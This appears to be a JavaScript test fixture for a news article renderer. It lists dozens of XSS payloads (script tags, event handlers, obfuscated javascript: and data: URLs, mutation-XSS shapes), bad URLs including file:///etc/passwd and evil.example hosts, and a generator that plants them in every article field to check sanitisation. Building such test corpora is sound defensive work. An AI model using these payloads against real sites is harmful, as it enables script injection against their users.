// A corpus of hostile inputs for the article view. Each payload, if it ever ran, would call
// `pwn(n)` (or alert), request a non-http(s) address, or change the host page. The feed built
// from it puts every payload in every text field, every address and the story's HTML, between
// harmless markers ("SAFE-…") that must stay visible.

export const PAYLOADS = [
  `<script>pwn(1)</script>`,
  `<img src=x onerror=pwn(2)>`,
  `<svg onload=pwn(3)>`,
  `<svg><script>pwn(4)</script></svg>`,
  `<iframe src="javascript:pwn(5)"></iframe>`,
  `<iframe srcdoc="<script>parent.pwn(6)</script>"></iframe>`,
  `<a href="javascript:pwn(7)">js link</a>`,
  `<a href="JaVaScRiPt:pwn(8)">mixed case</a>`,
  `<a href=" javascript:pwn(9)">leading space</a>`,
  `<a href="java&#x09;script:pwn(10)">tab entity</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn(11)">decimal entities</a>`,
  `<a href="&#x6A;avascript&colon;pwn(12)">hex and named entities</a>`,
  `<a href="\u0001javascript:pwn(13)">control character</a>`,
  `<a href="vbscript:msgbox(14)">vbscript</a>`,
  `<a href="data:text/html,<script>pwn(15)</script>">data html</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wd24oMTYpPC9zY3JpcHQ+">data base64</a>`,
  `<img src="data:image/svg+xml,<svg onload=pwn(17)>">`,
  `<img src="javascript:pwn(18)">`,
  `<body onload=pwn(19)>`,
  `<base href="javascript:pwn(20)//">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:pwn(22)">`,
  `<form action="javascript:pwn(23)"><button>Go</button></form>`,
  `<button formaction="javascript:pwn(24)">formaction</button>`,
  `<input onfocus=pwn(25) autofocus>`,
  `<details open ontoggle=pwn(26)>details</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwn(27)>`,
  `<math href="javascript:pwn(28)">math link</math>`,
  `<object data="javascript:pwn(29)"></object>`,
  `<embed src="javascript:pwn(30)">`,
  `<div style="background:url(javascript:pwn(31))">css url</div>`,
  `<div style="width:expression(pwn(32))">css expression</div>`,
  `<style>@import 'javascript:pwn(33)'; body { display: none }</style>`,
  `<link rel=stylesheet href="javascript:pwn(34)">`,
  `<p>unclosed <b><i><script>pwn(35)`,
  `<scr<script>ipt>pwn(36)</scr</script>ipt>`,
  `<<script>pwn(37);//<</script>`,
  `<img """><script>pwn(38)</script>">`,
  `<!--><script>pwn(39)</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=pwn(40)>">`,
  `<template><script>pwn(41)</script></template>`,
  `<svg><a xlink:href="javascript:pwn(42)"><text y=20>svg link</text></a></svg>`,
  `<svg><animate onbegin=pwn(43) attributeName=x dur=1s>`,
  `<video><source onerror=pwn(44)></video>`,
  `<audio src=x onerror=pwn(45)>`,
  `<marquee onstart=pwn(46)>marquee</marquee>`,
  `<isindex action="javascript:pwn(47)" type=image>`,
  `<a href="javascript&colon;pwn(48)">named colon</a>`,
  `<a href="jav&#x0A;ascript:pwn(49)">newline entity</a>`,
  `<img src=x:pwn(50) onerror=eval(src)>`,
  `<a href="#" onclick="pwn(51)">onclick</a>`,
  `"><script>pwn(52)</script>`,
  `'><img src=x onerror=pwn(53)>`,
  `</textarea><script>pwn(54)</script>`,
  `<img src="https://evil.example/track.gif" onload=pwn(55)>`,
  `<a href="https://ok.example/" onmouseover=pwn(56)>hover</a>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<frameset onload=pwn(58)>`,
  `<x-widget onclick=pwn(59)>custom element</x-widget>`,
  `<select autofocus onfocus=pwn(60)><option>opt</option></select>`,
  `<textarea autofocus onfocus=pwn(61)>area</textarea>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(62)/>#x"/></svg>`,
  `<a href=javascript:pwn(63)>unquoted</a>`,
  `<img/src=x/onerror=pwn(64)>`,
  `<a href="  &#9;javascript:pwn(65)">spaces and tab</a>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<plaintext><script>pwn(67)</script>`,
];

/**
 * Payloads after which the harmless text cannot show, in browsers either: an unclosed `<script>`
 * (35) or `<plaintext>` (67) makes the rest raw text; an unclosed `<style>` (27, a known
 * mutation-XSS shape) is read as raw text to the end, which drops the rest rather than risk
 * reading it as markup.
 */
export const SWALLOWS_REST = new Set([27, 35, 67]);

/** Addresses for the url and image fields: every way to smuggle a scheme. */
export const BAD_URLS = [
  "javascript:pwn(101)",
  "JAVASCRIPT:pwn(102)",
  " javascript:pwn(103)",
  "\tjavascript:pwn(104)",
  "java\nscript:pwn(105)",
  "jav&#x09;ascript:pwn(106)",
  "data:text/html,<script>pwn(107)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKDEwOCk+",
  "vbscript:pwn(109)",
  "\u0000javascript:pwn(110)",
  "//evil.example/%0ajavascript:pwn(111)",
  "file:///etc/passwd",
];

/** A Gazette article set with one story per payload. */
export function hostileFeed() {
  const articles = PAYLOADS.map((p, n) => {
    const i = n + 1;
    return {
      id: `h${i}-${p}`,
      title: `SAFE-T${i} ${p}`,
      url: BAD_URLS[n % BAD_URLS.length],
      category: `Desk ${i % 5} ${p}`,
      published: new Date(Date.UTC(2025, 0, 1 + i)).toISOString(),
      summary: `SAFE-S${i} ${p}`,
      content_html: `<p>SAFE-B${i}</p>${p}<p>SAFE-E${i}</p>`,
      image: { url: BAD_URLS[(n + 3) % BAD_URLS.length], alt: p, credit: p },
      authors: [p, `Writer ${i}`],
      tags: [p, "hostile"],
    };
  });
  return { title: `Hostile desk <script>pwn(0)</script>`, articles };
}
